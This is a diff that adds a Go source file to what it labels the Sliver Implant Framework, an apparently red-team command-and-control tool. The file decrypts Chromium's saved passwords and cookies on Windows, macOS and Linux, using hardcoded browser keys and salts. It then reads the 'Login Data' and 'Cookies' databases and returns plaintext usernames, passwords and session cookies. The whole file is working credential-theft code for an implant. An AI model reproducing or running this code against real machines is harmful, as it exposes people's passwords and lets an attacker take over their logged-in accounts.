@@ -0,0 +1,230 @@
+package browser
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/sha1"
+	"crypto/sha256"
+	"errors"
+	"fmt"
+	"strconv"
+	"time"
+
+	"golang.org/x/crypto/pbkdf2"
+)
+
+// Chromium encrypts saved passwords and cookie values with a per-profile key
+// obtained from the OS key store, values are prefixed with a version tag:
+//   Windows - v10/v11 AES-256-GCM with the DPAPI protected key from "Local State"
+//   MacOS   - v10 AES-128-CBC, key derived from the keychain "Safe Storage" password
+//   Linux   - v10 AES-128-CBC keyed with "peanuts", v11 keyed with the keyring password
+// v20 (app-bound encryption) can only be decrypted by the browser's elevation service
+
+const (
+	chromiumSalt = "saltysalt"
+
+	// Cookie databases from this version on prefix values with sha256(host_key)
+	chromiumCookieHashVersion = 24
+)
+
+var (
+	chromiumIV = bytes.Repeat([]byte{' '}, aes.BlockSize)
+
+	// ErrAppBound - Value uses app-bound encryption
+	ErrAppBound = errors.New("App-bound encryption (v20) is not supported")
+	// ErrLegacyDPAPI - Value was encrypted with DPAPI directly (Chromium < 80)
+	ErrLegacyDPAPI = errors.New("Legacy DPAPI encrypted value")
+)
+
+type chromiumDecrypter struct {
+	targetOS string
+	secret   []byte
+}
+
+func (c *chromiumDecrypter) decrypt(value []byte) ([]byte, error) {
+	if len(value) == 0 {
+		return value, nil
+	}
+	if len(value) < 3 || value[0] != 'v' {
+		if c.targetOS == "windows" {
+			return nil, ErrLegacyDPAPI
+		}
+		return value, nil // Stored in plaintext
+	}
+	version, payload := string(value[:3]), value[3:]
+	if version == "v20" {
+		return nil, ErrAppBound
+	}
+	switch c.targetOS {
+	case "windows":
+		return decryptAESGCM(c.secret, payload)
+	case "darwin":
+		return decryptAESCBC(chromiumKey(c.secret, 1003), chromiumIV, payload)
+	default:
+		if version == "v10" {
+			return decryptAESCBC(chromiumKey([]byte("peanuts"), 1), chromiumIV, payload)
+		}
+		return decryptAESCBC(chromiumKey(c.secret, 1), chromiumIV, payload)
+	}
+}
+
+func chromiumKey(password []byte, iterations int) []byte {
+	return pbkdf2.Key(password, []byte(chromiumSalt), iterations, 16, sha1.New)
+}
+
+func decryptAESGCM(key []byte, payload []byte) ([]byte, error) {
+	block, err := aes.NewCipher(key)
+	if err != nil {
+		return nil, err
+	}
+	gcm, err := cipher.NewGCM(block)
+	if err != nil {
+		return nil, err
+	}
+	if len(payload) < gcm.NonceSize() {
+		return nil, errors.New("Truncated value")
+	}
+	return gcm.Open(nil, payload[:gcm.NonceSize()], payload[gcm.NonceSize():], nil)
+}
+
+func decryptAESCBC(key []byte, iv []byte, payload []byte) ([]byte, error) {
+	block, err := aes.NewCipher(key)
+	if err != nil {
+		return nil, err
+	}
+	return decryptCBC(block, iv, payload)
+}
+
+// decryptCBC - Decrypt and remove PKCS#7 padding
+func decryptCBC(block cipher.Block, iv []byte, payload []byte) ([]byte, error) {
+	if len(payload) == 0 || len(payload)%block.BlockSize() != 0 || len(iv) != block.BlockSize() {
+		return nil, errors.New("Invalid ciphertext length")
+	}
+	plaintext := make([]byte, len(payload))
+	cipher.NewCBCDecrypter(block, iv).CryptBlocks(plaintext, payload)
+	padding := int(plaintext[len(plaintext)-1])
+	if padding == 0 || block.BlockSize() < padding || len(plaintext) < padding {
+		return nil, errors.New("Invalid padding, wrong key?")
+	}
+	for _, b := range plaintext[len(plaintext)-padding:] {
+		if int(b) != padding {
+			return nil, errors.New("Invalid padding, wrong key?")
+		}
+	}
+	return plaintext[:len(plaintext)-padding], nil
+}
+
+// chromiumLogins - Saved passwords from a "Login Data" database
+func chromiumLogins(decrypter *chromiumDecrypter, data []byte) ([]Login, []string, error) {
+	db, err := openSQLite(data, nil)
+	if err != nil {
+		return nil, nil, err
+	}
+	rows, err := db.Rows("logins")
+	if err != nil {
+		return nil, nil, err
+	}
+	logins := []Login{}
+	warnings := map[string]int{}
+	for _, row := range rows {
+		encrypted, _ := row["password_value"].([]byte)
+		password, err := decrypter.decrypt(encrypted)
+		if err != nil {
+			warnings[err.Error()]++
+			continue
+		}
+		origin, _ := row["origin_url"].(string)
+		if origin == "" {
+			origin, _ = row["signon_realm"].(string)
+		}
+		username, _ := row["username_value"].(string)
+		if username == "" && len(password) == 0 {
+			continue // Sites the user chose to never save
+		}
+		logins = append(logins, Login{
+			Origin:   origin,
+			Username: username,
+			Password: string(password),
+		})
+	}
+	return logins, summarizeWarnings(warnings, "password"), nil
+}
+
+// chromiumCookies - Cookies from a "Cookies" database
+func chromiumCookies(decrypter *chromiumDecrypter, data []byte) ([]Cookie, []string, error) {
+	db, err := openSQLite(data, nil)
+	if err != nil {
+		return nil, nil, err
+	}
+	hashPrefix := false
+	if meta, err := db.Rows("meta"); err == nil {
+		for _, row := range meta {
+			if row["key"] == "version" {
+				version, _ := strconv.Atoi(fmt.Sprintf("%v", row["value"]))
+				hashPrefix = chromiumCookieHashVersion <= version
+			}
+		}
+	}
+	rows, err := db.Rows("cookies")
+	if err != nil {
+		return nil, nil, err
+	}
+	cookies := []Cookie{}
+	warnings := map[string]int{}
+	for _, row := range rows {
+		host, _ := row["host_key"].(string)
+		value, _ := row["value"].(string)
+		if encrypted, _ := row["encrypted_value"].([]byte); 0 < len(encrypted) {
+			plaintext, err := decrypter.decrypt(encrypted)
+			if err != nil {
+				warnings[err.Error()]++
+				continue
+			}
+			hostHash := sha256.Sum256([]byte(host))
+			if hashPrefix && bytes.HasPrefix(plaintext, hostHash[:]) {
+				plaintext = plaintext[len(hostHash):]
+			}
+			value = string(plaintext)
+		}
+		cookie := Cookie{
+			Domain:   host,
+			HostOnly: 0 < len(host) && host[0] != '.',
+			Path:     stringValue(row["path"]),
+			Secure:   intValue(row["is_secure"]) != 0,
+			HTTPOnly: intValue(row["is_httponly"]) != 0,
+			Session:  intValue(row["has_expires"]) == 0,
+		}
+		cookie.Name, _ = row["name"].(string)
+		cookie.Value = value
+		if expires := intValue(row["expires_utc"]); expires != 0 {
+			cookie.ExpirationDate = chromiumTime(expires).Unix()
+		}
+		cookies = append(cookies, cookie)
+	}
+	return cookies, summarizeWarnings(warnings, "cookie"), nil
+}
+
+// chromiumTime - Timestamps are microseconds since 1601-01-01 UTC
+func chromiumTime(timestamp int64) time.Time {
+	const epochDelta = 11644473600 // Seconds between 1601-01-01 and 1970-01-01
+	return time.Unix(timestamp/1000000-epochDelta, (timestamp%1000000)*1000).UTC()
+}